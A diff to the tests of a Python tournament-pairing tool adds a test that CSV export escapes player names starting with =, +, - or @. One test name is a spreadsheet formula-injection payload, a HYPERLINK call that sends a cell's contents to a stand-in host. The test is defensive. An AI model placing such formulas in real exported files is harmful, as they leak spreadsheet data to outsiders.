@@ -3,6 +3,8 @@ games played, pairings that never repeat an opponent while a round can avoid it 
 against an exhaustive minimum computed here), byes, late arrivals and leavers, results
 recorded once however often they come, corrections that keep the original."""
 
+import csv
+import io
 import json
 import random
 import threading
@@ -595,3 +597,14 @@ def expected_refusals(number, seated):
         table + "%s v %s" % (b, a),
         "round %d at board t1 is recorded already (t1-%d)" % (number, number),
     ]
+
+
+def test_a_name_a_spreadsheet_would_run_is_written_as_text_in_the_csv(tmp_path):
+    night = Night(str(tmp_path / "night.sqlite"))
+    for name in ('=HYPERLINK("http://x.example/?"&A1,"Ann")', "+Bob", "-Cy", "@Di", "Ed"):
+        night.add(name)
+    rows = list(csv.reader(io.StringIO(night.csv())))
+    assert sorted(row[1] for row in rows[1:]) == [
+        "'+Bob", "'-Cy", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")", "'@Di", "Ed",
+    ]  # fmt: skip
+    assert [row[4] for row in rows[1:]] == ["0"] * 5  # numbers stay numbers
